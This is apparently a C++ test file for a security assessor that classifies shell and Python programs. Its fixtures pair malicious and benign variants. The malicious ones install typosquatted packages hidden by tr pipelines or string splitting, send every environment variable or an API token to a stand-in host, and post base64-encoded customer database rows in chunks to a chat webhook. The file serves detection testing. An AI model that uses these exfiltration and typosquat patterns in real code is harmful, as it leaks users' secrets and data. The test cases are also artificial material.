// The classes the thirty-first session modelled (issue 14), from the tune
// parts of the hundred-and-fifty-fifth round onwards
// (tests/corpus/prog159_MANIFEST.tsv and later): programs written from the
// rubric alone by writers who never saw the assessor. Strings here are never
// executed.

#include "test_util.hpp"

namespace mai::assess::test {
namespace {

constexpr Language Sh = Language::shell;

// A package list printed by functions that run straight through (one echo a
// package, one calling the others), joined with `tr '\n' ' '` and installed:
// a call had printed only its last line, tr had read '\n' as the letters
// '\' and 'n', and an unquoted $(...) had split only at blanks, so the
// typosquat in the middle of the list was never named. Twins: the genuine
// package in the same shape, and a function with an early return, which
// still prints its likely first candidate only.
TEST(HundredAndFiftyFifthRoundClasses, StraightLineFunctionsPrintEveryLine) {
  const Case cases[] = {
      {"a typosquat among the lines of straight-line functions", B, R"sh(#!/bin/sh
base_packages() {
    echo "pyserial"
    echo "requests"
}
console_packages() {
    prefix="colour"
    echo "${prefix}ama"
    echo "tabulate"
}
all_packages() {
    base_packages
    console_packages
}
pkgs=$(all_packages | tr '\n' ' ')
python3 -m pip install $pkgs
)sh",
       "KNOWN-MALICIOUS-PACKAGE", Sh},
      {"the genuine package in the same shape", M, R"sh(#!/bin/sh
base_packages() {
    echo "pyserial"
    echo "requests"
}
console_packages() {
    echo "colorama"
    echo "tabulate"
}
all_packages() {
    base_packages
    console_packages
}
pkgs=$(all_packages | tr '\n' ' ')
python3 -m pip install $pkgs
)sh",
       "INSTALLS-PACKAGES", Sh},
      {"an unquoted list of lines split into one package a line", B, R"sh(#!/bin/sh
pkgs="$(printf '%s\n' requests colourama)"
pip install $pkgs
)sh",
       "KNOWN-MALICIOUS-PACKAGE", Sh},
      {"two commands in one substitution print both lines", B, R"sh(#!/bin/sh
pkgs="$(echo colourama; echo requests)"
pip install $pkgs
)sh",
       "KNOWN-MALICIOUS-PACKAGE", Sh},
      {"a function that returns at its first hit prints that one", M, R"sh(#!/bin/bash
pick_tool() {
    for t in requests colourama; do
        if [ -n "$t" ]; then echo "$t"; return; fi
    done
}
pip install "$(pick_tool)"
)sh",
       "INSTALLS-PACKAGES", Sh},
  };
  for (const auto& c : cases) check(c);
}

// tr's sets are read as tr reads them: escapes (\n, \r, \012), classes
// ([:upper:]) and ranges; `tr -d SET` deletes. Twins: the same pipelines on
// a genuine name.
TEST(HundredAndFiftyFifthRoundClasses, TrSetsReadTheirEscapesAndClasses) {
  const Case cases[] = {
      {"blanks deleted with tr -d '[:space:]'", B, R"sh(#!/bin/sh
name=$(echo "colour ama" | tr -d '[:space:]')
pip install "$name"
)sh",
       "KNOWN-MALICIOUS-PACKAGE", Sh},
      {"carriage returns deleted with tr -d '\\r'", B, R"sh(#!/bin/sh
name=$(printf 'colourama\r\n' | tr -d '\r\n')
pip install "$name"
)sh",
       "KNOWN-MALICIOUS-PACKAGE", Sh},
      {"an octal newline turned into a blank", B, R"sh(#!/bin/sh
list=$(printf 'requests\ncolourama\n' | tr '\012' ' ')
pip install $list
)sh",
       "KNOWN-MALICIOUS-PACKAGE", Sh},
      {"the genuine name lowered", M, R"sh(#!/bin/sh
name=$(echo "COLORAMA" | tr '[:upper:]' '[:lower:]')
pip install "$name"
)sh",
       "INSTALLS-PACKAGES", Sh},
  };
  for (const auto& c : cases) check(c);
}

// A variable named by a configuration entry (key_env) in a file whose path
// an environment variable gives (SUPPLIER_CONFIG): the name's labels hold
// "environment variables", which had been read as "a name taken from the
// environment itself" (a loop over os.environ), so the one API key going to
// its own supplier's URL was the whole environment sent out. Only a name
// taken from os.environ (its keys, a loop over it) stands for all of them
// now. Twins: a loop over os.environ sent out, and the named variable sent
// to a fixed third party.
TEST(HundredAndFiftyFifthRoundClasses, AConfiguredVariableNameIsOneVariable) {
  const Case cases[] = {
      {"a configured key to its own supplier's API", L,
       "import os, requests, yaml\n"
       "cfg = yaml.safe_load(open(os.environ.get('SUPPLIER_CONFIG', 'suppliers.yaml')))\n"
       "for supplier in cfg['suppliers']:\n"
       "    s = requests.Session()\n"
       "    key_var = supplier.get('key_env')\n"
       "    if key_var and os.environ.get(key_var):\n"
       "        s.headers['Authorization'] = 'Bearer ' + os.environ[key_var]\n"
       "    print(s.get(supplier['base_url'] + '/prices', timeout=30).json())\n"},
      {"every variable of a loop over os.environ sent out", B,
       "import os, requests\n"
       "for name in sorted(os.environ):\n"
       "    value = os.environ.get(name)\n"
       "    requests.get('https://collect.example.net/e', params={'n': name, 'v': value})\n",
       "EXFILTRATION"},
      {"the configured variable sent to a fixed third party", B,
       "import os, requests, yaml\n"
       "cfg = yaml.safe_load(open(os.environ.get('CFG', 'suppliers.yaml')))\n"
       "for supplier in cfg['suppliers']:\n"
       "    token = os.environ[supplier.get('key_env')]\n"
       "    requests.post('https://collect.example.net/k', data={'t': token}, timeout=5)\n",
       "EXFILTRATION"},
  };
  for (const auto& c : cases) check(c);
}

// Pins of the dependency groups a loop variable picks (groups from an
// option whose default is a list): `pins` is one of several dicts, and
// `sorted(pins.items())` in a generator had merged their pairs, every name
// crossed with every version, until the combinations ran out of room and the
// typosquat among them was lost. sorted/list/tuple/set of one of a few known
// collections now copy each, and a comprehension over one of a few known
// lists takes each element whole. Twin: the genuine names.
TEST(HundredAndFiftyFifthRoundClasses, PairsOfOneOfSeveralDictsStayWhole) {
  const char* program =
      "import argparse, subprocess\n"
      "GROUPS = {\n"
      "    'core': {'req' + 'eusts': '2.31.0', 'openpyxl': '3.1.2', 'python-dateutil': '2.8.2'},\n"
      "    'cli': {'click': '8.1.7', 'tabulate': '0.9.0', 'rich': '13.7.0'},\n"
      "}\n"
      "def selected_specs(groups):\n"
      "    specs = []\n"
      "    for group in groups:\n"
      "        pins = GROUPS.get(group)\n"
      "        if pins is None:\n"
      "            raise SystemExit(group)\n"
      "        specs.extend(f'{name}=={version}' for name, version in sorted(pins.items()))\n"
      "    return specs\n"
      "parser = argparse.ArgumentParser()\n"
      "parser.add_argument('--groups', nargs='+', default=['core', 'cli'])\n"
      "parser.add_argument('--index-url')\n"
      "args = parser.parse_args()\n"
      "cmd = ['python3', '-m', 'pip', 'install']\n"
      "if args.index_url:\n"
      "    cmd += ['--index-url', args.index_url]\n"
      "subprocess.run(cmd + selected_specs(args.groups), check=True)\n";
  std::string genuine = program;
  genuine.replace(genuine.find("'req' + 'eusts'"), 15, "'requests'");
  const Case cases[] = {
      {"a typosquat among the pins of a group an option picks", B, program, "KNOWN-MALICIOUS-PACKAGE"},
      {"the genuine names in the same shape", M, genuine.c_str(), "INSTALLS-PACKAGES"},
  };
  for (const auto& c : cases) check(c);
}

// A database's tables gzipped, base64-encoded and posted in chunks as chat
// messages to a webhook on a host no list names (hooks.<vendor>/services/
// T.../B.../...): nobody reads base64 in a channel. A chat webhook is now
// known by its URL's shape as well as by its vendor's host. Twins: counts
// from the same tables posted to the same webhook, and a file's base64 in an
// ordinary API's documented field.
TEST(HundredAndFiftyFifthRoundClasses, EncodedFileContentsInChatMessagesAreSmuggled) {
  const Case cases[] = {
      {"a database's rows gzipped and base64-encoded into chat messages", B,
       "import base64, gzip, json, sqlite3, requests\n"
       "rows = [dict(r) for r in sqlite3.connect('erp.sqlite3').execute('SELECT * FROM customers')]\n"
       "blob = base64.b64encode(gzip.compress(json.dumps(rows).encode())).decode()\n"
       "for i in range(0, len(blob), 1800):\n"
       "    requests.post('https://hooks.chatrelay.example/services/T07QF2/B0AA91/x9',\n"
       "                  json={'text': blob[i:i + 1800]}, timeout=20)\n",
       "COVERT-CHANNEL-EXFILTRATION"},
      {"a count from the same tables posted to the same webhook", L,
       "import sqlite3, requests\n"
       "rows = list(sqlite3.connect('erp.sqlite3').execute('SELECT status FROM quotes'))\n"
       "open_quotes = sum(1 for r in rows if r[0] == 'open')\n"
       "requests.post('https://hooks.chatrelay.example/services/T07QF2/B0AA91/x9',\n"
       "              json={'text': f'{open_quotes} open quotes'}, timeout=20)\n"},
      {"a file's base64 in an API's content field", L,
       "import base64, os, requests\n"
       "from pathlib import Path\n"
       "content = base64.b64encode(Path('docs/index.md').read_bytes()).decode()\n"
       "requests.put('https://api.github.example/repos/acme/site/contents/docs/index.md',\n"
       "             headers={'Authorization': 'token ' + os.environ['GITHUB_TOKEN']},\n"
       "             json={'message': 'update docs', 'content': content}, timeout=20)\n"},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
